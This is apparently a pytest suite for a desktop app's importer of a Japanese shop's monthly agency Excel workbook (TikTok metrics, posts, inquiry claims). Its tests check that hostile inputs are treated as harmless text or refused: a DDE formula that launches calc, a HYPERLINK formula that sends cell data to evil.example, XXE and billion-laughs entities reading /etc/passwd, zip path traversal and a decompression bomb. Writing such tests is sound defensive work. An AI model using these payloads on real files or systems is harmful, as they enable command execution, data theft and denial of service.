"""The agency's workbook comes back: read by its codes, wherever they went, and every odd cell told by its place."""

from __future__ import annotations

import zipfile
from collections import Counter
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.catalog.catalog import Catalog
from desktop.domain.agency_sheet import CODES_SHEET, Field, FilledSheet, Part
from desktop.domain.month import Month
from desktop.domain.problems import Code
from desktop.importers.dates import Told
from desktop.importers.files import open_bytes
from desktop.importers.reading import Reading
from desktop.importers.recognise import read_all
from desktop.importers.tables import Unread
from desktop.reports.agency.workbook import content
from desktop.settings import resources
from desktop.wording.importing import sentence
from tests.unit.reports import office
from tests.unit.reports.agency_making import NOVEMBER, Filled, sheet_of

from .conftest import go_on

VERSION_1 = Path(__file__).parents[2] / "data" / "agency" / "version-1.xlsx"
EMPTY = content(sheet_of(Catalog(resources() / "catalog")))
CODES = {x.value for x in Code if x.value.startswith("sheet_")}


@pytest.fixture
def filled() -> Filled:
    return Filled(openpyxl.load_workbook(BytesIO(EMPTY)))


def result(book: openpyxl.Workbook | bytes, told: Told | None = None) -> Reading | Unread:
    data = book
    if isinstance(book, openpyxl.Workbook):
        packed = BytesIO()
        book.save(packed)
        data = packed.getvalue()
    assert isinstance(data, bytes)
    ((_found, read),) = read_all(open_bytes(data, "11月.xlsx", go_on), told or Told())
    return read


def reading(filled: Filled) -> Reading:
    read = result(filled.book)
    assert isinstance(read, Reading), read
    assert read.source == "agency_sheet"
    return read


def sheet(filled: Filled) -> FilledSheet:
    found = reading(filled).sheet
    assert found is not None
    return found


def numbers(filled: Filled) -> dict[str, Decimal]:
    return {x.kpi: x.value for x in sheet(filled).numbers}


def told(filled: Filled) -> list[tuple[Code, str]]:
    problems = reading(filled).problems
    assert all(sentence(x) for x in problems)
    return [(x.code, str(x.values["cell"])) for x in problems]


def test_an_empty_sheet_says_nothing_at_all(filled):
    read = reading(filled)
    assert read.sheet == FilledSheet("sample", NOVEMBER, 1)
    assert (read.rows, read.problems) == (0, ())
    assert (read.first, read.last) == (date(2026, 11, 1), date(2026, 11, 30))


def test_numbers_as_people_write_them_and_nothing_for_empty_cells(filled):
    filled.put(Part.NUMBERS, "inquiries", value=31, invalid=2, source="台帳")
    filled.put(Part.NUMBERS, "local_audience_share", value=0.46, source="web analytics")
    filled.put(Part.NUMBERS, "views", value="１２．５万回", source="TikTok Studio")
    filled.put(Part.NUMBERS, "profile_views", value=0)
    filled.put(Part.NUMBERS, "likes", source="計測していない")
    assert numbers(filled) == {
        "inquiries": 31, "inquiries_rejected": 2, "local_audience_share": Decimal("0.46"), "views": 125_000,
        "profile_views": 0,
    }  # fmt: skip
    views = next(x for x in sheet(filled).numbers if x.kpi == "views")
    assert (views.rounded, views.seen) == (True, "TikTok Studio")
    assert told(filled) == []


@pytest.mark.parametrize(
    ("kpi", "value", "code"),
    [
        ("views", "たくさん", Code.SHEET_NO_NUMBER),
        ("views", -3, Code.SHEET_BELOW_ZERO),
        ("views", 3.5, Code.SHEET_NOT_WHOLE),
        ("views", 10**17, Code.SHEET_TOO_LARGE),
        ("views", "=SUM(A1:A3)", Code.SHEET_FORMULA),
        ("views", "#DIV/0!", Code.SHEET_FORMULA),
        ("views", datetime(2026, 11, 3), Code.SHEET_NO_NUMBER),  # noqa: DTZ001
        ("views", True, Code.SHEET_NO_NUMBER),
        ("local_audience_share", 46, Code.SHEET_ABOVE_WHOLE),
        ("local_audience_share", "120%", Code.SHEET_ABOVE_WHOLE),
    ],
)
def test_a_cell_that_cannot_be_is_told_by_sheet_and_place(filled, kpi, value, code):
    cell = filled.cell(Part.NUMBERS, kpi, Field.VALUE)
    cell.value = value
    assert told(filled) == [(code, cell.coordinate)]
    problem = reading(filled).problems[0]
    assert problem.values["sheet"] == "今月の数字"
    assert cell.coordinate in sentence(problem)
    assert numbers(filled) == {}


def test_more_invalid_than_there_are_and_numbers_that_are_not_counted(filled):
    filled.put(Part.NUMBERS, "inquiries", value=3, invalid=4)
    filled.put(Part.NUMBERS, "views", value=3, source="not counted")
    assert {code for code, _ in told(filled)} == {Code.SHEET_MORE_INVALID, Code.SHEET_NOT_COUNTED}
    assert numbers(filled) == {"inquiries": 3}


def test_posts_claims_replies_cancelled_and_the_remark(filled):
    link = "https://www.tiktok.com/@yukiwari/video/7412345678901234567"
    filled.put(
        Part.POSTS, 3, day=datetime(2026, 11, 2), title="練り切り", link=link, template="裏側・仕込み",  # noqa: DTZ001
        hook="質問", seconds=28, views=9800, saves=118, shares=39, comments=14, promoted="あり", spend=3000,
    )  # fmt: skip
    filled.put(Part.POSTS, 4, day="11/20", title="＝式ではない")
    filled.put(
        Part.CLAIMS, 1, day="2026-11-05", kpi="お問い合わせの合計", way="電話", mark="下4桁 1234", note="法事"
    )
    filled.put(
        Part.REPLIES, "qualified_inquiries", reason="季節", step="型を変える", who="佐藤", until="2026/12/10"
    )
    filled.put(Part.REPLIES, "link_ctr", reason="=cmd|' /C calc'!A0")
    filled.cell(Part.REPLIES, "link_ctr", Field.REASON).data_type = "s"
    filled.put(
        Part.CANCELLED, 1, month="2026-10", kpi="お問い合わせの合計", count=1, reason="重複", note="No. 12"
    )
    filled.put(Part.NUMBERS, "*", remark="5日は休業でした")
    filled.put(Part.START, "day", value=datetime(2026, 12, 3))  # noqa: DTZ001
    found = sheet(filled)
    first, second = found.posts
    assert (first.post.posted, first.post.template, first.post.hook) == (date(2026, 11, 2), "T05", "question")
    assert (first.post.promoted, first.post.promotion, first.post.length) == (True, 3000, 28)
    assert (first.views, first.saves, first.shares, first.comments) == (9800, 118, 39, 14)
    assert (second.post.posted, second.views, second.post.promoted) == (date(2026, 11, 20), None, False)
    (claim,) = found.claims
    assert (claim.kpi, claim.day, claim.way, claim.mark) == (
        "inquiries",
        date(2026, 11, 5),
        "phone",
        "下4桁 1234",
    )
    remark, *replies = found.replies
    assert (remark.kpi, remark.reason) == ("", "5日は休業でした")
    assert [(x.kpi, x.reason, x.until) for x in replies] == [
        ("qualified_inquiries", "季節", date(2026, 12, 10)),
        ("link_ctr", "=cmd|' /C calc'!A0", None),
    ]
    (gone,) = found.cancelled
    assert (gone.of_month, gone.kpi, gone.count, gone.reason) == (
        Month(2026, 10),
        "inquiries",
        1,
        "重複\nNo. 12",
    )
    assert (found.day, reading(filled).taken) == (date(2026, 12, 3), date(2026, 12, 3))
    assert told(filled) == []


def test_odd_rows_are_told_and_the_rest_is_read(filled):
    filled.put(Part.POSTS, 1, title="日付なし")
    filled.put(Part.POSTS, 2, day=datetime(2025, 11, 2), title="去年")  # noqa: DTZ001
    filled.put(Part.POSTS, 3, day=datetime(2026, 11, 3), title="題", link="tiktok", template="ダンス")  # noqa: DTZ001
    filled.put(Part.POSTS, 4, day="2026-11-04", views=3)
    filled.put(Part.CLAIMS, 1, day="2026-11-05", mark="誰か")
    filled.put(Part.CLAIMS, 2, kpi="売上", mark="誰か")
    filled.put(Part.CANCELLED, 1, month="去年", kpi="お問い合わせの合計", count=1)
    filled.put(Part.CANCELLED, 2, month="2026-10", kpi="お問い合わせの合計")
    assert Counter(code for code, _ in told(filled)) == {
        Code.SHEET_ROW_LACKS: 4, Code.SHEET_OTHER_DAY: 1, Code.SHEET_NO_LINK: 1, Code.SHEET_OTHER_CHOICE: 1,
        Code.SHEET_OTHER_FIGURE: 1, Code.SHEET_NO_MONTH: 1,
    }  # fmt: skip
    assert [x.post.posted for x in sheet(filled).posts] == [date(2026, 11, 3)]
    assert not sheet(filled).claims
    assert not sheet(filled).cancelled


def test_renamed_hidden_sorted_and_deleted_it_is_read_the_same(filled):
    filled.put(Part.NUMBERS, "inquiries", value=31)
    filled.put(Part.NUMBERS, "comments", value=7)
    main, _row, _columns = filled.table(Part.NUMBERS)
    main.title = "Sheet 1 (改)"
    filled.book[CODES_SHEET].sheet_state = "hidden"
    filled.book[CODES_SHEET].title = "x"
    row = filled.cell(Part.NUMBERS, "views", Field.VALUE).row
    main.delete_rows(row)
    main.move_range(f"A{row}:P{main.max_row}", rows=1)
    main.insert_cols(3)
    filled.book.move_sheet(main, 4)
    assert numbers(filled) == {"inquiries": 31, "comments": 7}


def test_a_sheet_in_english_and_lists_in_the_other_language(catalog):
    filled = Filled.of(catalog, language="en")
    filled.put(Part.CLAIMS, 1, kpi="All inquiries", way="telephone")
    filled.put(Part.POSTS, 1, day="2026-11-02", title="x", template="裏側・仕込み")
    found = sheet(filled)
    assert found.claims[0].way == "phone"
    assert found.posts[0].post.template == "T05"


def test_what_is_no_sheet_of_ours_any_more_is_refused_in_words(filled):
    asked = result(EMPTY, Told(month=Month(2026, 10)))
    assert isinstance(asked, Unread)
    assert asked.problem.code is Code.SHEET_OTHER_MONTH
    assert "2026年10月" in sentence(asked.problem)
    codes = filled.book[CODES_SHEET]
    codes["B2"] = "2"
    newer = result(filled.book)
    assert isinstance(newer, Unread)
    assert newer.problem.code is Code.SHEET_NEWER
    del filled.book[CODES_SHEET]
    bare = result(filled.book)
    assert isinstance(bare, Unread)
    assert bare.problem.code is Code.SHEET_WITHOUT_CODES


def test_version_1_is_read_for_good():
    read = result(VERSION_1.read_bytes())
    assert isinstance(read, Reading)
    found = read.sheet
    assert found is not None
    assert (found.shop, found.month, found.version) == ("sample", NOVEMBER, 1)
    assert {x.kpi: x.value for x in found.numbers} == {
        "inquiries": 17, "inquiries_rejected": 2, "ad_spend": 20_000, "profile_views": 1430,
        "local_audience_share": Decimal("0.51"), "views": 120_000,
    }  # fmt: skip
    assert [x.post.template for x in found.posts] == ["T05", ""]
    assert [(x.kpi, x.way) for x in found.claims] == [("inquiries", "phone"), ("inquiries", "line")]
    assert [x.kpi for x in found.replies] == ["", "qualified_inquiries", "link_ctr"]
    assert [(x.of_month, x.count) for x in found.cancelled] == [(Month(2026, 10), 1)]
    assert found.day == date(2026, 12, 3)
    assert [x.code for x in read.problems] == [Code.SHEET_NO_NUMBER]


@pytest.mark.skipif(office.program() is None, reason="LibreOffice is not installed")
def test_libreoffice_saves_it_and_it_says_the_same(tmp_path):
    done = office.convert([VERSION_1], "xlsx", tmp_path)
    saved = openpyxl.load_workbook(done["version-1"])
    assert saved[CODES_SHEET].sheet_state in ("hidden", "veryHidden")
    before, after = result(VERSION_1.read_bytes()), result(done["version-1"].read_bytes())
    assert isinstance(before, Reading)
    assert isinstance(after, Reading)
    assert after.sheet == before.sheet
    assert [x.values for x in after.problems] == [x.values for x in before.problems]


TYPED: dict[tuple[Part, str | int, Field], str] = {
    (Part.NUMBERS, "inquiries", Field.VALUE): "31",
    (Part.NUMBERS, "inquiries", Field.INVALID): "2",
    (Part.NUMBERS, "inquiries", Field.SOURCE): "台帳",
    (Part.NUMBERS, "local_audience_share", Field.VALUE): "46%",
    (Part.NUMBERS, "views", Field.VALUE): "１２．５万回",
    (Part.NUMBERS, "profile_views", Field.VALUE): "0",
    (Part.NUMBERS, "likes", Field.SOURCE): "計測していない",
    (Part.NUMBERS, "shares", Field.VALUE): "多数",
    (Part.NUMBERS, "*", Field.REMARK): "5日は休業でした",
    (Part.POSTS, 1, Field.DAY): "2026-11-02",
    (Part.POSTS, 1, Field.TITLE): '「"練り切り"」の作り方',
    (Part.POSTS, 1, Field.LINK): "https://www.tiktok.com/@yukiwari/video/7412345678901234567",
    (Part.POSTS, 1, Field.TEMPLATE): "裏側・仕込み",
    (Part.POSTS, 1, Field.VIEWS): "9800",
    (Part.POSTS, 1, Field.PROMOTED): "あり",
    (Part.POSTS, 1, Field.SPEND): "3000",
    (Part.POSTS, 2, Field.TITLE): "日付のない投稿",
    (Part.CLAIMS, 1, Field.DAY): "2026-11-05",
    (Part.CLAIMS, 1, Field.KPI): "お問い合わせの合計",
    (Part.CLAIMS, 1, Field.WAY): "電話",
    (Part.CLAIMS, 1, Field.MARK): "下4桁 1234",
    (Part.REPLIES, "link_ctr", Field.REASON): "季節",
    (Part.REPLIES, "link_ctr", Field.UNTIL): "2026-12-10",
    (Part.CANCELLED, 1, Field.MONTH): "2026-10",
    (Part.CANCELLED, 1, Field.KPI): "お問い合わせの合計",
    (Part.CANCELLED, 1, Field.COUNT): "1",
    (Part.CANCELLED, 1, Field.REASON): "重複",
    (Part.START, "day", Field.VALUE): "2026-12-03",
}
"""What is typed into a sheet, and once more by somebody with another program."""


@pytest.mark.skipif(office.program() is None, reason="LibreOffice is not installed")
def test_filled_in_libreoffice_it_says_what_it_says_filled_by_another_program(filled, tmp_path):
    path = filled.save(tmp_path / "empty.xlsx")
    places = {where: filled.cell(*where) for where in TYPED}
    cells = {(cell.parent.title, cell.coordinate): TYPED[where] for where, cell in places.items()}
    questions = filled.cell(Part.NUMBERS, "views", Field.SOURCE).offset(column=-6)
    assert questions.value == "再生数"
    locked = {("今月の数字", questions.coordinate): "別の数字", ("_mikiwame", "B4"): "2026-10"}
    returned = result(office.typed(path, cells | locked, tmp_path).read_bytes())
    assert isinstance(returned, Reading)
    for where, cell in places.items():
        cell.value = TYPED[where]
    other = reading(filled)
    assert returned.sheet == other.sheet
    assert [x.values for x in returned.problems] == [x.values for x in other.problems]
    assert [x.code for x in returned.problems] == [Code.SHEET_ROW_LACKS, Code.SHEET_NO_NUMBER]
    found = returned.sheet
    assert found is not None
    assert {x.kpi: x.value for x in found.numbers} == {
        "inquiries": 31, "inquiries_rejected": 2, "local_audience_share": Decimal("0.46"), "views": 125_000,
        "profile_views": 0,
    }  # fmt: skip
    (post,) = found.posts
    assert (post.post.posted, post.post.title, post.views) == (
        date(2026, 11, 2),
        '「"練り切り"」の作り方',
        9800,
    )
    assert (found.claims[0].way, found.cancelled[0].count, found.day) == ("phone", 1, date(2026, 12, 3))
    assert [x.reason for x in found.replies] == ["5日は休業でした", "季節"]


def test_a_formula_is_read_by_the_value_saved_beside_it(filled, tmp_path):
    filled.put(Part.NUMBERS, "views", value="=40+2", source="台帳")
    path = filled.save(tmp_path / "f.xlsx")
    assert told(filled) == [(Code.SHEET_FORMULA, filled.cell(Part.NUMBERS, "views", Field.VALUE).coordinate)]
    if office.program() is None:
        pytest.skip("LibreOffice is not installed")
    computed = result(office.convert([path], "xlsx", tmp_path)["f"].read_bytes())
    assert isinstance(computed, Reading)
    assert computed.sheet is not None
    assert [x.value for x in computed.sheet.numbers] == [42]


CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**20), 10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=30),
    st.sampled_from(
        ["=1/0", "#REF!", "46%", "１．２万", "2026-11-31", "11/2", '=HYPERLINK("x")', "あ" * 2000]
    ),
    st.datetimes(datetime(1950, 1, 1), datetime(2100, 1, 1)),  # noqa: DTZ001
)
PLACES = st.one_of(
    st.just((Part.NUMBERS, "*", Field.REMARK)),
    st.tuples(st.just(Part.NUMBERS), st.sampled_from(["inquiries", "views"]), st.sampled_from(
        [Field.VALUE, Field.INVALID, Field.SOURCE])),
    st.tuples(st.just(Part.POSTS), st.integers(1, 20), st.sampled_from(
        [Field.DAY, Field.TITLE, Field.LINK, Field.TEMPLATE, Field.SECONDS, Field.VIEWS, Field.SPEND])),
    st.tuples(st.just(Part.CLAIMS), st.integers(1, 40), st.sampled_from([Field.DAY, Field.KPI, Field.WAY])),
    st.tuples(st.just(Part.REPLIES), st.sampled_from(["link_ctr"]), st.sampled_from([Field.REASON, Field.UNTIL])),
    st.tuples(st.just(Part.CANCELLED), st.integers(1, 12), st.sampled_from(
        [Field.MONTH, Field.KPI, Field.COUNT, Field.REASON])),
)  # fmt: skip


@given(st.lists(st.tuples(PLACES, CELLS), max_size=12))
def test_whatever_stands_in_a_cell_is_a_value_or_told(cells):
    filled = Filled(openpyxl.load_workbook(BytesIO(EMPTY)))
    for (part, row, field), value in cells:
        filled.cell(part, row, field).value = value
    read = reading(filled)
    assert read.sheet is not None
    assert {x.code.value for x in read.problems} <= CODES | {Code.MORE_PROBLEMS.value}
    assert all(sentence(x) for x in read.problems)
    for number in read.sheet.numbers:
        assert number.value >= 0
    for post in read.sheet.posts:
        assert Month.of(post.post.posted) == NOVEMBER


def repacked(change) -> bytes:
    """The empty sheet with its parts changed by hand."""
    packed = BytesIO()
    with zipfile.ZipFile(BytesIO(EMPTY)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return packed.getvalue()


def test_links_to_outside_and_commands_in_cells_are_only_text(filled):
    filled.put(Part.POSTS, 1, day="2026-11-02", title='=HYPERLINK("http://evil.example/?"&A1,"here")')
    filled.put(Part.POSTS, 2, day="2026-11-03", title="=[1]Sheet1!$A$1", link="file:///etc/passwd")
    filled.put(Part.CLAIMS, 1, kpi="お問い合わせの合計", note="=cmd|' /C calc'!A0")
    found = sheet(filled)
    assert found.posts[0].post.title.startswith("=HYPERLINK")
    assert found.posts[1].post.link == ""
    assert found.claims[0].note.startswith("=cmd")
    assert {code for code, _ in told(filled)} == {Code.SHEET_NO_LINK}


@pytest.mark.parametrize(
    "inside",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_are_refused_or_harmless(inside):
    def change(name: str, part: bytes) -> bytes:
        if name != "xl/worksheets/sheet2.xml":
            return part
        text = b"&b;" if b"&b" in inside or b"ENTITY b" in inside else b"&e;"
        head, tag, rest = part.partition(b"<worksheet")
        return head + inside + tag + rest.replace(b"<is><t>No", b"<is><t>" + text + b"No", 1)

    read = result(repacked(change))
    if isinstance(read, Unread):
        assert sentence(read.problem)
    else:
        assert read.sheet == FilledSheet("sample", NOVEMBER, 1)


def test_a_cell_in_the_far_corner_and_a_bomb_are_refused():
    def far(name: str, part: bytes) -> bytes:
        cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        return part.replace(b"</sheetData>", cell) if name == "xl/worksheets/sheet2.xml" else part

    def swollen(name: str, part: bytes) -> bytes:
        return part + b" " * 60_000_000 if name == "xl/worksheets/sheet2.xml" else part

    for change, code in ((far, Code.TABLE_TOO_LARGE), (swollen, Code.FILE_UNPACKS_TOO_LARGE)):
        read = result(repacked(change))
        assert isinstance(read, Unread)
        assert read.problem.code is code


def test_a_sheet_cut_off_is_refused_and_one_part_more_is_no_harm():
    assert isinstance(result(EMPTY[: len(EMPTY) // 2]), Unread)
    more = BytesIO(EMPTY)
    with zipfile.ZipFile(more, "a") as book:
        book.writestr("xl/externalLinks/externalLink1.xml", "<x/>")
        book.writestr("../../evil.txt", "x")
        book.writestr("xl/vbaProject.bin", b"\0" * 20)
    read = result(more.getvalue())
    assert isinstance(read, Reading)
    assert read.sheet == FilledSheet("sample", NOVEMBER, 1)
